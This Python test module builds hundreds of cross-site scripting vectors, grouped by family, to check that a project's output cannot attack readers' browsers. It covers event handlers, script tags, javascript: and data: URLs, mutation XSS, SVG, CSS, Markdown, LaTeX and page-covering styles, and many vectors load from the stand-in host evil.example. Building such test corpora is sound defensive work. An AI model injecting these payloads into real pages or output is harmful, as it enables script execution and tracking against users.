"""Attacks on readers' browsers through what code prints: families of them, times payloads.

Written for this project after the families that are known from the XSS literature (OWASP's and
PortSwigger's lists, DOMPurify's and Ammonia's tests): no vector is copied. `RUN` is a script that
tells the detector of the test that it ran, `HOST` a host that no page may ask for anything.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator, Mapping
from html import escape
from itertools import product

HOST = "evil.example"
RUN = "xss(1)"
JS = f"javascript:{RUN}"
URL = f"https://{HOST}/x"
DATA = "data:text/html;base64," + base64.b64encode(f"<script>top.{RUN}</script>".encode()).decode()

_HANDLERS = {
    "img src=x": ("onerror", "onload", "onclick", "onmouseover"),
    "svg": ("onload", "onbegin", "onclick"),
    "body": ("onload", "onpageshow", "onresize", "onhashchange", "onmessage", "onfocus"),
    "details open": ("ontoggle", "onclick"),
    "input autofocus": ("onfocus", "onblur", "oninput"),
    "video src=x": ("onerror", "onloadstart", "oncanplay", "onplay"),
    "audio src=x": ("onerror", "onloadedmetadata"),
    "marquee": ("onstart", "onfinish", "onbounce"),
    "select autofocus": ("onfocus",),
    "iframe": ("onload",),
    "object data=x": ("onerror", "onload"),
    "p contenteditable": ("onfocus", "onpaste", "onbeforeinput"),
    "div style='animation: x 1s'": ("onanimationstart", "onanimationend", "onpointerenter"),
    "a href=#": ("onclick", "onauxclick", "ondragstart", "onfocusin"),
}

_WRAPPINGS = (
    "{}",
    "<div>{}</div>",
    "<table><tr><td>{}</td></tr></table>",
    "<math><mtext>{}</mtext></math>",
    "<p title='{}",
)


def _handlers() -> Iterator[str]:
    for element, names in _HANDLERS.items():
        for name in names:
            yield f"<{element} {name}={RUN}>x"
    for separator in ("/", "\n", "\t", "\f", "\0", " x=1 ", "//"):
        yield f"<img{separator}src=x{separator}onerror={RUN}>"
    for quote in ('"', "'", "`", ""):
        yield f"<img src=x alt={quote}{quote} onerror={quote}{RUN}{quote}>"
    for name in ("ONERROR", "oNeRrOr", "on&#101;rror", "on\0error", "onerror\0"):
        yield f"<img src=x {name}={RUN}>"


def _scripts() -> Iterator[str]:
    for opening, closing in product(
        ("<script>", "<SCRIPT>", "<script/x>", "<script\n>", "<script type=module>", "<ſcript>"),
        ("</script>", "</script >", ""),
    ):
        yield f"{opening}{RUN}{closing}"
    yield f"<script src={URL}></script>"
    yield f"<script src=//{HOST}/x></script>"
    yield f"<script src=data:,{RUN}></script>"
    yield f"<x<script>{RUN}</script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<script>/*</script>*/{RUN}</script>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href=data:,{RUN} /></svg>"
    yield f"<math><script>{RUN}</script></math>"
    yield f"<template><script>{RUN}</script></template>"
    yield f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>"


def _addresses() -> Iterator[str]:
    spellings = (
        JS,
        JS.upper(),
        f" {JS}",
        f"\x01{JS}",
        f"java\nscript:{RUN}",
        f"java\tscript:{RUN}",
        f"java&#10;script:{RUN}",
        f"&#106;avascript:{RUN}",
        f"&#x6A;avascript:{RUN}",
        f"javascript&colon;{RUN}",
        "javascript:%78%73%73(1)",
        f"vbscript:{RUN}",
        f"blob:{JS}",
        DATA,
        f"data:text/html,<script>top.{RUN}</script>",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.{RUN}'/>",
    )
    for spelling in spellings:
        yield f'<a href="{spelling}" target=_self class=attack>x</a>'
    for element in (
        "<area href={} shape=default>",
        "<form action={}><button>x</button></form>",
        "<button formaction={}>x</button>",
        "<iframe src={}></iframe>",
        "<embed src={}>",
        "<object data={}></object>",
        "<img src={}>",
        "<base href={}><a href=x class=attack>x</a>",
        "<link rel=stylesheet href={}>",
        "<svg><a href={}><text y=9>x</text></a></svg>",
        "<svg><use href={} /></svg>",
        "<math href={}><mi>x</mi></math>",
        "<math><mrow xlink:href={}><mi>x</mi></mrow></math>",
        "<video src={} controls></video>",
        "<frameset><frame src={}></frameset>",
    ):
        yield element.format(JS)
        yield element.format(DATA)


def _documents() -> Iterator[str]:
    inner = escape(f"<script>parent.{RUN}</script>")
    yield f'<iframe srcdoc="{inner}"></iframe>'
    yield f'<iframe srcdoc="{escape(inner)}"></iframe>'
    yield f"<iframe srcdoc='<img src=x onerror=parent.{RUN}>'></iframe>"
    yield f'<object data="{DATA}" type=text/html></object>'
    yield f'<embed src="{DATA}" type=text/html>'
    yield f'<applet code=x archive="{URL}"></applet>'
    yield f'<portal src="{URL}"></portal>'
    yield f'<frameset onload={RUN}><frame src="{URL}"></frameset>'
    yield f'<fencedframe src="{URL}"></fencedframe>'
    yield f'<webview src="{URL}"></webview>'


def _svg_inside() -> Iterator[str]:
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>"
    yield f"<svg><a><animate attributeName=href values={JS} /><text y=9>x</text></a></svg>"
    yield f"<svg><a><set attributeName=href to={JS} /><text y=9>x</text></a></svg>"
    yield f"<svg><a><animate attributeName=xlink:href from={JS} to=# /><text y=9>x</text></a></svg>"
    yield f"<svg><foreignObject><iframe src={JS}></iframe></foreignObject></svg>"
    yield f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>"
    yield f"<svg><image href={URL} /></svg>"
    yield f"<svg><image href=x onerror={RUN} /></svg>"
    yield f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x" /></svg>'
    yield f"<svg><feImage href={URL} /></svg>"
    yield f"<svg><style>@import '{URL}'</style></svg>"
    yield f"<svg><title><img src=x onerror={RUN}></title></svg>"
    yield f"<svg><desc><img src=x onerror={RUN}></desc></svg>"
    yield f"<svg><discard onbegin={RUN} /></svg>"
    yield f"<svg><handler xmlns:ev=x ev:event=load>{RUN}</handler></svg>"
    yield f"<svg filter='url({URL})'><rect mask='url({URL})' width=9 height=9 /></svg>"


def _mutations() -> Iterator[str]:
    attack = f"<img src=x onerror={RUN}>"
    yield f"<noscript><p title='</noscript>{attack}'>"
    yield f"<style><p title='</style>{attack}'>"
    yield f"<textarea><p title='</textarea>{attack}'>"
    yield f"<title><p title='</title>{attack}'>"
    yield f"<xmp><p title='</xmp>{attack}'>"
    yield f"<iframe><p title='</iframe>{attack}'>"
    yield f"<noembed><p title='</noembed>{attack}'>"
    yield f"<!--><{attack[1:]}-->"
    yield f"<!-- --!>{attack}<!-- -->"
    yield f"<![CDATA[<p title=']]>{attack}'>]]>"
    yield f"<?x {attack} ?>"
    yield f"<!x {attack}>"
    yield f"</ {attack}>"
    yield f"<math><mtext><table><mglyph><style><!--</style>{attack}"
    yield f"<math><mtext><table><mglyph><style><![CDATA[</style>{attack}]]></style>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{attack}"
    yield f"<svg></p><style><a title='</style>{attack}'>"
    yield f"<svg><p><style><g title='</style>{attack}'>"
    yield f"<math><annotation-xml encoding=text/html><style>{attack}</style></annotation-xml></math>"
    yield f"<select><iframe></select>{attack}"
    yield f"<table><caption><svg><title><table><caption></caption></table>{attack}"
    yield f"<a href='x<b title=\"'>{attack}"
    yield f"<p title='<audio>'>{attack}<audio></audio><b title='onclick={RUN} '>"
    yield f"<plaintext>{attack}"
    yield f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>"
    yield f"<keygen autofocus onfocus={RUN}>"
    yield f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"
    yield f"\ufeff<script>{RUN}</script>"
    yield f"<scr\0ipt>{RUN}</scr\0ipt>"
    yield f"%3Cscript%3E{RUN}%3C/script%3E"
    yield f"\u003cscript\u003e{RUN}\u003c/script\u003e"
    yield f"＜script＞{RUN}＜/script＞"


def _requests() -> Iterator[str]:
    for element in (
        "<img src={}>",
        "<img src=//evil.example/x>",
        "<img src='/\\evil.example/x'>",
        "<img srcset='{} 1x' src=x>",
        "<picture><source srcset={}><img src=x></picture>",
        "<input type=image src={}>",
        "<body background={}>",
        "<table background={}><tr><td background={}>x</td></tr></table>",
        "<video poster={} controls></video>",
        "<video src={} autoplay></video>",
        "<audio src={} autoplay></audio>",
        "<video controls><track default src={}></video>",
        "<video controls><source src={}></video>",
        "<link rel=prefetch href={}>",
        "<link rel=preload as=image href={}>",
        "<link rel=dns-prefetch href={}>",
        "<link rel=stylesheet href={}>",
        "<link rel=icon href={}>",
        "<link rel=manifest href={}>",
        "<style>@import url({})</style>",
        "<style>p {{background: url({})}} @font-face {{font-family: f; src: url({})}}</style><p>x</p>",
        "<p style='background: url({})'>x</p>",
        "<p style='background: u\\72 l({})'>x</p>",
        "<p style='list-style: url({})'>x</p>",
        "<p style='content: url({})'>x</p>",
        "<p style='cursor: url({}), auto'>x</p>",
        "<p style='background: image-set(\"{}\" 1x)'>x</p>",
        "<p style='border-image: url({}) 1'>x</p>",
        "<p style='filter: url({}#x)'>x</p>",
        "<p style='mask: url({})'>x</p>",
        "<p style='--a: url({}); background: var(--a)'>x</p>",
        "<a href=# ping={} class=attack>x</a>",
        "<iframe src={}></iframe>",
        "<object data={}></object>",
        "<embed src={}>",
        "<meta http-equiv=refresh content='0; url={}'>",
        "<meta http-equiv=Content-Security-Policy content='report-uri {}'>",
        "<script src={}></script>",
        "<html manifest={}>",
        "<img lowsrc={} dynsrc={} longdesc={}>",
        "<base href={}><img src=x>",
        "<portal src={}></portal>",
    ):
        yield element.replace("{}", URL).replace("{{", "{").replace("}}", "}")


def _covering() -> Iterator[str]:
    for style in (
        "position: fixed; inset: 0; background: red",
        "position: absolute; top: 0; left: 0; width: 100vw; height: 100vh; background: red",
        "position: sticky; top: 0; height: 100vh; background: red",
        "margin: -3000px; padding: 3000px; background: red",
        "margin-top: -9999px; height: 9999px; background: red",
        "box-shadow: 0 0 0 9999px red",
        "outline: 9999px solid red",
        "transform: scale(999); background: red",
        "zoom: 99; background: red",
        "width: 9999px; height: 9999px; background: red; float: left",
        "font-size: 9999px; line-height: 0",
        "text-indent: -9999px; letter-spacing: -999px",
        "translate: 0 -999px; scale: 99; background: red",
        "clip-path: none; z-index: 99; top: -999px; position: relative; background: red",
        "display: flex; position: fixed !important; top: 0; background: red; height: 100%",
        "pos\\69tion: fixed; inset: 0; background: red",
        "position/**/: fixed; inset: 0; background: red",
        "columns: 9; margin: calc(0px - 999px); background: red",
        "writing-mode: vertical-rl; height: 9999px; background: red",
    ):
        yield f'<div style="{style}">cover</div>'
    yield "<style>body {display: none} * {position: fixed; inset: 0}</style><p>cover</p>"
    yield "<dialog open style='inset: 0; width: 100vw; height: 100vh'>cover</dialog>"
    yield "<div popover=manual style='width: 100vw; height: 100vh'>cover</div>"
    yield "<table width=9999 height=9999 bgcolor=red><tr><td>cover</td></tr></table>"
    yield "<img width=9999 height=9999 src=x alt=cover>"
    yield "<math><mspace width=-999em height=999em /><mpadded voffset=-999em width=999em><mi>x</mi></mpadded></math>"
    yield "<marquee style='height: 100vh'>cover</marquee>"
    yield "</div></div></main></body><div style='position: fixed; inset: 0'>cover</div>"
    yield "</pre></details></section></article><div style='position: fixed; inset: 0'>cover</div>"


def _damage() -> Iterator[str]:
    names = (
        *("querySelector", "querySelectorAll", "getElementById", "body", "head", "forms", "title"),
        *("documentElement", "createElement", "addEventListener", "defaultView", "cookie", "xss"),
        *("own", "postBuilderOutputs", "location", "attributes", "__proto__"),
    )
    for name in names:
        yield f"<img name={name} id={name} src=x>"
        yield f"<form name={name}><input name={name} id={name}></form>"
    yield "<a id=own><a id=own name=done href=x>x</a></a>"
    yield "<div class='own-button' data-own=1 tabindex=0 accesskey=a>x</div>"
    yield "<textarea>x"
    yield "<select><option>x"
    yield "<title>x"
    yield "<!-- x"
    yield "<div hidden><div><div>"
    yield "<body class=x hidden>x"
    yield "<html lang=x hidden class=x>x"
    yield "<script>document.body.remove()</script>"


def _jekyll() -> Iterator[str]:
    attack = f"<img src=x onerror={RUN}>"
    yield f"<div markdown=1>\n\n{attack}\n\n</div>"
    yield f"<p markdown='span'>*a*{attack}</p>"
    yield f"<div markdown='block'>\n- {attack}\n</div>"
    yield f"{{::options parse_block_html='true' /}}\n\n<div>{attack}</div>"
    yield f"{{::nomarkdown}}{attack}{{:/}}"
    yield "<p>x</p>\n{: onclick='" + RUN + "'}"
    yield "<p>x</p>{:.x onmouseover='" + RUN + "' style='position: fixed; inset: 0'}"
    yield "{{ '<img src=x onerror=" + RUN + ">' }}"
    yield "{% raw %}{% endraw %}" + attack
    yield "{% include_relative x %}{% comment %}"
    yield "</div>\n\n" + attack
    yield "<!-- /output -->\n\n" + attack
    yield "<!-- /output -->\n\n```python\n" + RUN + "\n```\n<!-- output -->"
    yield f"[x]({JS})\n\n![x]({URL})"
    yield "*[xss]: x\n[1]: " + JS + "\n[x][1]"


def _styles() -> Iterator[str]:
    for style in (
        f"background: url('{JS}')",
        f"background-image: url({DATA})",
        f"width: expression({RUN})",
        f"behavior: url({URL})",
        f"-moz-binding: url({URL}#x)",
        f"animation: x 1s; background: url({URL})",
        f'x: "</style><img src=x onerror={RUN}>"',
    ):
        yield f"<p style='{escape(style)}'>x</p>"
        yield f"<style>p {{{style}}}</style><p>x</p>"
    yield f"<style>@keyframes x {{from {{color: red}}}}</style><p style='animation: x 1s' onanimationstart={RUN}>x</p>"
    yield f"<style>p:hover {{background: url({URL})}} p::after {{content: url({URL})}}</style><p>x</p>"
    yield f"<style>@import '{URL}'; @namespace url({URL}); @charset 'x';</style><p>x</p>"


def _wrapped() -> Iterator[str]:
    for wrapping in _WRAPPINGS:
        for attack in (
            f"<img src=x onerror={RUN}>",
            f"<script>{RUN}</script>",
            f"<svg onload={RUN}>",
        ):
            yield wrapping.format(attack)


HTML: Mapping[str, tuple[str, ...]] = {
    "handlers": tuple(_handlers()),
    "scripts": tuple(_scripts()),
    "addresses": tuple(_addresses()),
    "documents": tuple(_documents()),
    "SVG in HTML": tuple(_svg_inside()),
    "mutations": tuple(_mutations()),
    "requests": tuple(_requests()),
    "covering": tuple(_covering()),
    "damage": tuple(_damage()),
    "kramdown and Liquid": tuple(_jekyll()),
    "styles": tuple(_styles()),
    "wrapped": tuple(_wrapped()),
}
"""Attacks in HTML by family."""

LATEX = (
    rf"\text{{<script>{RUN}</script>}}",
    rf"\text{{<img src=x onerror={RUN}>}}",
    rf"\mathrm{{<svg onload={RUN}>}}",
    rf"\href{{{JS}}}{{x}}",
    rf"\url{{{JS}}}",
    r"\class{own-button}{x}\cssId{own}{x}",
    r"\style{position: fixed; inset: 0; background: red}{x}",
    rf"\color{{red' onclick={RUN} x='}}{{x}}",
    rf"\unicode{{<script>{RUN}</script>}}",
    r"\hspace{-999em}\rule{9999em}{9999em}",
    rf"\begin{{array}}{{c<script>{RUN}</script>}}x\end{{array}}",
    rf"\mbox{{</math><img src=x onerror={RUN}>}}",
    rf"\text{{</mtext></math><script>{RUN}</script>}}",
    rf"a & b < c > d \text{{&lt;script&gt;{RUN}&lt;/script&gt;}}",
    rf"$x$ <script>{RUN}</script> $\text{{<img src=x onerror={RUN}>}}$",
    rf"\operatorname{{<b onmouseover={RUN}>x</b>}}",
)

MARKDOWN = (
    f"<script>{RUN}</script>",
    f"a <img src=x onerror={RUN}> b",
    f"[x]({JS})",
    f"[x](<{JS}>)",
    f"[x](java&#115;cript:{RUN})",
    f"[x]: {JS}\n\n[x]",
    f"![x]({URL})",
    f'![x]({URL} "x" )',
    f'![x" onerror="{RUN}](x)',
    f'[x](x "x\' onclick={RUN}")',
    f"<{JS}>",
    f"<https://{HOST}/x>",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```',
    f"`<script>{RUN}</script>`",
    f"$\\text{{<script>{RUN}</script>}}$",
    f"| <script>{RUN}</script> |\n|---|\n| <img src=x onerror={RUN}> |",
    f"<details open ontoggle={RUN}>\n\n**x**\n\n</details>",
    f"<div markdown=1>\n\n<img src=x onerror={RUN}>\n\n</div>",
    f"{{:: onclick={RUN}}}\n\n{{: onclick='{RUN}'}}",
    "{% include x %}{{ x }}",
    f"> <iframe src={URL}></iframe>",
)

_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
DRAWINGS = tuple(
    f"<svg {_SVG} width='40' height='20' viewBox='0 0 40 20'>{inner}</svg>"
    for inner in (
        f"<script>{RUN}</script>",
        f"<script href='data:,{RUN}'/>",
        f"<g onload='{RUN}'/><circle r='9' onclick='{RUN}'/>",
        f"<a xlink:href='{JS}'><circle r='9'/></a>",
        f"<a href='{JS}'><circle r='9'/></a>",
        f"<a><animate attributeName='href' values='{JS}'/><circle r='9'/></a>",
        f"<a><set attributeName='xlink:href' to='{JS}'/><circle r='9'/></a>",
        f"<animate onbegin='{RUN}' attributeName='x' dur='1s'/>",
        f"<foreignObject width='9' height='9'><p xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></p></foreignObject>",
        f"<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='{JS}'/></foreignObject>",
        f"<image href='{URL}' width='9' height='9'/>",
        f"<use href='{URL}#x'/>",
        f"<style>@import url({URL});</style>",
        f"<rect width='9' height='9' style='fill: url({URL})'/>",
        f"<rect width='9' height='9' filter='url({URL}#x)'/>",
        f"<x:script xmlns:x='http://www.w3.org/2000/svg'>{RUN}</x:script>",
        f"<x:img xmlns:x='http://www.w3.org/1999/xhtml' src='x' onerror='{RUN}'/>",
        f"<style><g/>@import '{URL}';</style>",
        f"<style>@import<!-- -->'{URL}';</style>",
        f"<style><![CDATA[@import '{URL}';]]></style>",
        f"<style>@\\69mport '{URL}';</style>",
        f"<style>svg {{ background: image-set('{URL}' 1x) }}</style>",
        f"<style>svg {{ background: -webkit-image-set(url('{URL}') 1x) }}</style>",
        f"<style>svg {{ background: cross-fade(url('{URL}'), red) }}</style>",
        f"<style>svg {{ background: image('{URL}') }}</style>",
        f"<style>svg {{ background: src('{URL}') }}</style>",
        f"<style>svg {{ background: u\\72l('{URL}') }}</style>",
        f"<style>svg {{ --x: url('{URL}'); background: var(--x) }}</style>",
        f"<style>@font-face {{ font-family: x; src: url('{URL}') }} * {{ font-family: x }}</style><text>x</text>",
        f"<style>rect {{ fill: red; cursor: url('{URL}'), auto }}</style><rect width='9' height='9'/>",
        f"<g style='background: image-set(&quot;{URL}&quot; 1x)'><circle r='9'/></g>",
        f"<rect width='9' height='9' cursor='image-set(&quot;{URL}&quot; 1x), auto'/>",
        f"<rect width='9' height='9'><set attributeName='fill' to='url({URL}#x)'/></rect>",
        f"<image width='9' height='9'><set attributeName='href' to='{URL}'/></image>",
        f"<image width='9' height='9'><set attributeName='xlink:href' to='{URL}'/></image>",
        f"<rect width='9' height='9'><set attributeName='style' to='fill: url({URL}#x)'/></rect>",
        f"<g xml:base='{URL}'><use href='#x'/></g>",
        f"<use href='data:image/svg+xml,&lt;svg {_SVG} id=&quot;x&quot; onload=&quot;{RUN}&quot;/&gt;#x'/>",
        f"<a href='/x' ping='{URL}'><circle r='9'/></a>",
        f"<a href='data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;'><circle r='9'/></a>",
        f"<feImage href='{URL}'/>",
        f"<filter id='f'><feImage href='{URL}'/></filter><rect width='9' height='9' filter='url(#f)'/>",
        f"<font-face><font-face-src><font-face-uri href='{URL}'/></font-face-src></font-face>",
        f"<cursor id='c' href='{URL}'/><rect width='9' height='9' cursor='url(#c), auto'/>",
        f"<audio src='{URL}' autoplay=''/><video src='{URL}'/>",
        f"<x:link xmlns:x='http://www.w3.org/1999/xhtml' rel='stylesheet' href='{URL}'/>",
        f"<x:audio xmlns:x='http://www.w3.org/1999/xhtml' src='{URL}' onerror='{RUN}'/>",
        f"<metadata><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script></metadata>",
        f"<x:listener xmlns:x='http://www.w3.org/2001/xml-events' event='load' handler='#{RUN}'/>",
    )
)
"""Attacks in drawings, which readers may open on their own."""

ROOTS = (
    f"<!--<svg {_SVG}>--><script xmlns='http://www.w3.org/2000/svg'>{RUN}</script>",
    f"<!--<svg {_SVG}>--><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"<!--<svg>--><html xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'><p>x</p></html>",
    f"<?x <svg>?><script xmlns='http://www.w3.org/2000/svg'>{RUN}</script>",
    f"<x:svg xmlns:x='http://www.w3.org/1999/xhtml' onload='{RUN}'/>",
    f"<svg xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></svg>",
)
"""What is no drawing, though `<svg` is in it."""

PROLOGS = (
    f"<?xml version='1.0'?><?xml-stylesheet href='{URL}'?>",
    f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA '{RUN}'>]>",
    f"<!DOCTYPE svg [<!ENTITY x '<script>{RUN}</script>'>]>",
    f"<!DOCTYPE svg SYSTEM '{URL}'>",
)
"""What may stand in front of a drawing."""

TEXTS = (
    f"<script>{RUN}</script>",
    f"</pre><script>{RUN}</script>",
    f"</pre></div><img src=x onerror={RUN}>",
    f"<!-- /output -->\n\n<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\x1b]8;;{JS}\x1b\\x\x1b]8;;\x1b\\",
    f"\x1b[31m<img src=x onerror={RUN}>\x1b[0m",
    f"\x1b[38;5;<script>{RUN}</script>m",
    "{{ '<script>" + RUN + "</script>' }}{% raw %}",
    "{% endraw %}<script>" + RUN + "</script>",
    "{: onclick='" + RUN + "'}",
    f"```\n<script>{RUN}</script>",
    f"[x]({JS}) ![x]({URL}) <{URL}>",
    f"\u2028<script>{RUN}</script>\ufdd0/x\ufdd1",
    f"' onmouseover={RUN} x='\" onmouseover={RUN} x=\"",
    f"--><script>{RUN}</script><!--",
)
"""Attacks in text: what is printed, raised, returned, or the value of an expression."""


def count() -> int:
    """Return how many vectors there are."""
    html = sum(map(len, HTML.values()))
    return html + sum(map(len, (LATEX, MARKDOWN, DRAWINGS, ROOTS, PROLOGS, TEXTS)))
